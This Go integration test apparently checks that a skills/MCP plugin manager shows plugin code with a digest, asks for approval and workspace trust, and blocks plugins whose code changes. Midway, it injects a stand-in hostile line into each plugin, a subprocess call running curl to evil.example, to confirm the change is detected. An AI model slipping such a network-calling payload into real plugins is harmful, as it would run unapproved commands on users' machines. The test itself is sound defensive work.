package clients

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillsmcp/skills-mcp/integration/lab"
)

// The code of plugins, servers and Conduit's, is shown and asked about as a skill's: with its
// digest before it starts, and when it has gained something, with that. Until then nothing of
// it runs, also of tools that call themselves safe. The code of a workspace asks for trust.
func TestPluginCodeQuestions(t *testing.T) {
	t.Parallel()
	a := lab.NewAccount(t, "native", "")
	server, err := os.ReadFile(filepath.Join("testdata", "pluginserver", "server.py"))
	if err != nil {
		t.Fatal(err)
	}
	type plugin struct{ name, tool, file, code string }
	var all []plugin
	for folder, prefix := range map[string]string{filepath.Join(a.Home, "plugins"): "own", filepath.Join(a.Workspace, ".claude", "plugins"): "their"} {
		dir := filepath.Join(folder, prefix+"code")
		lab.WriteFile(t, filepath.Join(dir, "plugin.json"), fmt.Sprintf(`{"id": %q}`, prefix+"code"))
		all = append(all, plugin{prefix + "code/tools", "my_tool", filepath.Join(dir, "__init__.py"), examplePlugin})
		dir = filepath.Join(folder, prefix+"server")
		lab.WriteFile(t, filepath.Join(dir, ".claude-plugin", "plugin.json"), fmt.Sprintf(`{"name": %q, "mcpServers": {"s": {"command": "python3", "args": ["${CLAUDE_PLUGIN_ROOT}/server.py", "s"]}}}`, prefix+"server"))
		all = append(all, plugin{prefix + "server/s", "echo", filepath.Join(dir, "server.py"), string(server)})
	}
	for _, p := range all {
		lab.WriteFile(t, p.file, p.code)
	}
	a.Configure(fmt.Sprintf("plugins: {dir: [%q], enabled: true}\nexpose: {mode: all}\n", filepath.Join(a.Home, "plugins")))

	screen, code := a.Terminal("no", "trust", a.Workspace)
	for _, name := range []string{"theircode/tools", "theirserver/s"} {
		if !strings.Contains(screen, name) {
			t.Errorf("trust, exit %d, does not name %s: %s", code, name, screen)
		}
	}
	c := a.Serve("legacy", `{}`)
	trusted := false
	for _, p := range all {
		shown, _ := a.Run("show", p.name)
		_, digest, _ := strings.Cut(shown, "sha256:")
		if len(digest) < 64 || !strings.Contains(shown, "has a script, "+filepath.Base(p.file)) {
			t.Fatalf("%s: %s", p.name, shown)
		}
		tool := strings.ReplaceAll(p.name, "/", "__")
		id := c.Waits(c.Call(tool, none))
		screen, code := a.Terminal("yes", "approve", id)
		for _, want := range []string{digest[:64], "connect to: nowhere"} {
			if code != 0 || !strings.Contains(screen, want) {
				t.Errorf("%s: exit %d, no %s in %s", p.name, code, want, screen)
			}
		}
		theirs := strings.HasPrefix(p.name, "their")
		if asked := strings.Contains(screen, "A yes trusts all skills there"); asked != (theirs && !trusted) {
			t.Errorf("%s: it asks for trust: %t: %s", p.name, asked, screen)
		}
		trusted = trusted || theirs
		c.Succeeds(c.Call(tool, none), "has started")
		tool += "__" + p.tool
		awaitTool(t, c, tool)
		if p.tool == "echo" {
			a.Approve(c.Waits(c.Call(tool, lab.Text("hi"))))
		}
		c.Succeeds(c.Call(tool, lab.Text("hi")), "hi")

		lab.WriteFile(t, p.file, strings.Replace(p.code, "\n", "\nimport subprocess, urllib.request\ndef evil(): subprocess.run(['curl', 'https://evil.example'])\n", 1))
		c.Succeeds(c.Call("reload_skills", none), "")
		r := c.Call(tool, lab.Text("hi"))
		c.Fails(r, "It could do more now than a person has accepted")
		if screen, code := a.Terminal("no", "approve", c.Waits(r)); code == 0 || !strings.Contains(screen, "+ runs a shell command, curl") || !strings.Contains(screen, "+ opens network connections") {
			t.Errorf("%s: exit %d, %s", p.name, code, screen)
		}
		if screen, code := a.Terminal("$1", "pin", p.name); code != 0 || !strings.Contains(screen, "+ runs a shell command, curl") {
			t.Errorf("%s: exit %d, %s", p.name, code, screen)
		}
		r = c.Call(tool, lab.Text("hi"))
		if p.tool == "echo" { // which is asked about anyway
			c.Fails(r, "APPROVAL_REQUIRED")
		} else {
			c.Succeeds(r, "hi")
		}
	}
}
